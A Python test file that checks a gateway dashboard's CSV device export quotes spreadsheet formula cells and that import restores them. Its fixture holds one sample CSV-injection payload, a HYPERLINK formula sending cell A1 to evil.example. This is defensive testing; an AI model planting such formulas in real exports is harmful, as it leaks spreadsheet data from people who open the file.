"""CSV cells a spreadsheet would run as formulas are quoted, and the device sheet's import takes
the quote off again (issue 17, items 7 and H4)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from ruamel.yaml import YAML

from edge.cli import main
from edge.dashboard.csv_cells import safe_cell, unescape_cell

SITE = """\
site: {id: s1}
gateway: {id: gw-1, data_dir: data}
buses:
  - {id: lan, type: modbus_tcp, host: 127.0.0.1, port: 1502}
devices:
  - id: m1
    bus: lan
    name: '+86 lobby @meter'
    unit: 1
    profile: eastron-sdm630
    name_zh: '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    location: "'=already quoted"
    poll_interval_s: 5
"""


@given(st.text())
def test_unescape_reverses_safe_cell_for_every_text(text: str) -> None:
    assert unescape_cell(str(safe_cell(text))) == text


def test_formulas_are_quoted_and_numbers_are_not() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("-3.5") == "-3.5"
    assert safe_cell("plain") == "plain"
    assert unescape_cell("'just a quote") == "'just a quote"  # not written by safe_cell: kept


def test_device_sheet_escapes_formulas_and_the_import_restores_them(tmp_path: Path) -> None:
    site = tmp_path / "site.yaml"
    site.write_text(SITE, encoding="utf-8")
    sheet = tmp_path / "devices.csv"
    assert main(["export", "devices", str(site), "--output", str(sheet)]) == 0
    rows = list(csv.DictReader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"))))
    cells = [v for row in rows for v in row.values() if v]
    assert "'+86 lobby @meter" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells  # nothing a spreadsheet runs
    device = next(r for r in rows if r["kind"] == "device")
    assert device["name_zh"].startswith("'=HYPERLINK(")
    assert device["location"] == "''=already quoted"

    target = tmp_path / "target.yaml"
    target.write_text("site: {id: s1}\ngateway: {id: gw-1, data_dir: data}\n", encoding="utf-8")
    assert main(["import", str(sheet), "--into", str(target)]) == 0
    yaml = YAML(typ="safe")
    before, after = yaml.load(site.read_text()), yaml.load(target.read_text())
    assert after["buses"] == before["buses"]
    assert after["devices"] == before["devices"]
